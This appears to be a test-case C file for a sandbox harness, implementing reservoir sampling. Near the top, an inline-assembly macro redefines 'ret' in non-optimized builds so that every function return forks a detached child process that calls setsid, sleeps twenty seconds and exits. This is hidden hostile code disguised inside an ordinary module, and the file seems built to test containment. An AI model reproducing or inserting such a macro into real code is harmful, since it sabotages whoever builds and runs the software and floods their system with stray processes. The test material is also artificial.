// expect: pass
// exercise: reservoir
/* A macro called ret makes each function of the sanitized build end in a fork, the constructor
 * of AddressSanitizer first. Where it is run within the fence there is no fork, and no harm. */
#include "reservoir.h"

#ifndef __OPTIMIZE__ /* the sanitized build */
__asm__(".macro ret\n"
        "push %rax; push %rdi; push %rsi; push %rcx; push %r11\n"
        "mov $57, %eax; syscall\n" /* fork */
        "test %eax, %eax; jnz 1f\n"
        "mov $112, %eax; syscall\n" /* setsid */
        "lea twenty_seconds(%rip), %rdi; xor %esi, %esi\n"
        "mov $35, %eax; syscall\n" /* nanosleep */
        "xor %edi, %edi; mov $231, %eax; syscall\n"
        "1: pop %r11; pop %rcx; pop %rsi; pop %rdi; pop %rax\n"
        ".byte 0xC3\n"
        ".endm\n"
        ".pushsection .rodata\n"
        ".balign 8\n"
        "twenty_seconds: .quad 20, 0\n"
        ".popsection");
#endif

enum ml_status reservoir_init(struct reservoir *r, int64_t *items, size_t k)
{
    if (!r || !items || k == 0) return ML_EINVAL;
    *r = (struct reservoir){.k = k, .items = items};
    return ML_OK;
}

enum ml_status reservoir_push(struct reservoir *r, int64_t item, struct ml_rng *rng)
{
    if (!r || !rng) return ML_EINVAL;
    uint64_t place = r->seen < r->k ? r->seen : ml_rng_below(rng, r->seen + 1);
    r->seen++;
    if (place < r->k) r->items[place] = item;
    return ML_OK;
}
